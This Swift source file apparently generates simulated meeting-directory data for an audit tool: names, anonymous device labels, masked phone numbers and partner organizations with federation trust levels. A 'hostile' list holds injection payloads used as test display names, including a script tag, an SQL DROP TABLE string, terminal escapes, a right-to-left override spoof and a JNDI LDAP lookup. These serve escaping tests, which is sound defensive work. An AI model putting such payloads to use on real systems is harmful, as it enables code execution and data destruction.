import JoinAuditCore

/// Display names and partner organizations. Names carry accents and apostrophes, as a real
/// directory does; anonymous people name themselves, and a few choose names meant to break
/// whatever prints them (markup, quotes, terminal escapes, bidirectional overrides), which
/// every output of JoinAudit must escape.
enum SimulatedNames {
    static let given = [
        "Ada", "Ben", "Chloé", "Dmitri", "Elif", "Farah", "Gustavo", "Hana", "Ingrid", "Jonas", "Kenji", "Lucía",
        "Mateo", "Nia", "Oskar", "Priya", "Quentin", "Rosa", "Søren", "Tomás", "Uma", "Viktor", "Wen", "Ximena",
        "Yusuf", "Zoë", "Aarav", "Beatriz", "Chidi", "Dana", "Emil", "Fatima", "Grace", "Hiro", "Isla", "Jamal",
        "Katarzyna", "Liam", "Mei", "Noah", "Olga", "Pablo", "Ravi", "Sara", "Théo", "Anja", "Björn", "Camille",
        "Diego", "Eun-ji", "Femi", "Greta", "Hamid", "Inès", "Jakub", "Kofi", "Leila", "Marta", "Nikolai", "Oona",
        "Paulo", "Rhea", "Stefan", "Tariq",
    ]
    static let family = [
        "Lovelace", "Okafor", "Nguyen", "Müller", "García", "Kowalski", "Tanaka", "Haddad", "Johansson", "O'Brien",
        "Rossi", "Dubois", "Patel", "Kim", "Silva", "Novák", "Andersen", "Yılmaz", "Fischer", "Ivanova", "Chen",
        "Martin", "Hughes", "Moreau", "Schmidt", "Santos", "Fernández", "Larsen", "Brennan", "Abara", "Wójcik",
        "Costa", "Mensah", "Virtanen", "Horváth", "Papadopoulos", "Sato", "Kaur", "Lindqvist", "de Vries",
        "Ahmed", "Byrne", "Castillo", "Eriksen", "Farouk", "Grünewald", "Hashimoto", "Jovanović",
    ]
    /// What anonymous people usually type, or what their device says.
    static let anonymous = [
        "Guest", "Visitor", "iPhone", "Galaxy S23", "Candidate", "Customer", "Interviewee", "Meeting Room 4B",
        "Conference Room", "Unknown", "Student", "Parent", "Press", "Contractor", "Auditor", "Surface Hub",
    ]
    /// Attacker-controlled names that test the escaping of every output.
    static let hostile = [
        "<script>alert(1)</script>", "Robert'); DROP TABLE events;--", "IT Support \"Official\"",
        "C:\\Windows\\System32", "\u{1B}[31mSecurity Team\u{1B}[0m", "\u{202E}gpj.exe", "🙂 Visitor",
        "Microsoft Teams Admin", "Line\nbreak", "${jndi:ldap://198.51.100.9/a}",
    ]

    /// A person of a directory, from a number: the same number, the same name.
    static func person(_ key: UInt64) -> String {
        let h = SimulationRandom.scramble(key ^ 0x6E61_6D65)
        return given[Int(h % UInt64(given.count))] + " " + family[Int((h >> 20) % UInt64(family.count))]
    }

    /// A masked telephone number, as dial-in participants are shown.
    static func telephone(_ key: UInt64) -> String {
        let h = SimulationRandom.scramble(key ^ 0x7465_6C)
        let last = Int(h % 100)
        let tail = last < 10 ? "0\(last)" : "\(last)"
        switch h >> 60 {
        case 0...5: return "+1 425 555 01\(tail)"
        case 6...8: return "+44 20 7946 09\(tail)"
        case 9...11: return "+49 30 1234 56\(tail)"
        case 12...13: return "+33 1 99 00 12 \(tail)"
        default: return "+81 3 1234 56\(tail)"
        }
    }
}

/// An organization the tenant meets with, and how external access stands between them.
struct PartnerOrganization {
    var name: String
    var trust: Trust
    var tenantID: String

    /// Mostly mutual trust (federated), a few one-way relations and one with none: the
    /// people of those count as anonymous (semantics.md §1).
    static let all: [PartnerOrganization] = {
        let table: [(String, Trust)] = [
            ("Fabrikam", .mutual), ("Northwind Traders", .mutual), ("Woodgrove Bank", .mutual), ("Litware", .mutual),
            ("Adventure Works", .mutual), ("Wide World Importers", .mutual), ("Proseware", .mutual),
            ("Fourth Coffee", .mutual), ("Alpine Ski House", .mutual), ("Coho Winery", .mutual),
            ("Lucerne Publishing", .mutual), ("Trey Research", .mutual), ("Relecloud", .mutual),
            ("Humongous Insurance", .mutual), ("A. Datum", .mutual), ("Contoso Pharmaceuticals", .mutual),
            ("Tailspin Toys", .outbound), ("Margie's Travel", .outbound), ("Blue Yonder Airlines", .inbound),
            ("Graphic Design Institute", .inbound), ("VanArsdel", .none),
        ]
        return table.enumerated().map { i, entry in
            PartnerOrganization(name: entry.0, trust: entry.1, tenantID: SimulatedIdentifiers.guid(index: UInt64(i), salt: 0x7061_7274))
        }
    }()

    static let mutualIndices: [Int] = all.indices.filter { all[$0].trust == .mutual }
    static let oneWayIndices: [Int] = all.indices.filter { all[$0].trust != .mutual }
}
